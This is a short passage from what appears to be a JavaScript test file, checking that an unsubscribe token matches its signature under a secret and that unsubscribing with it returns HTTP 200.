    expect(token).toBe(sign(token.split('.')[0], secret));
    await unsubscribe(t, token).expect(200);
  });
});
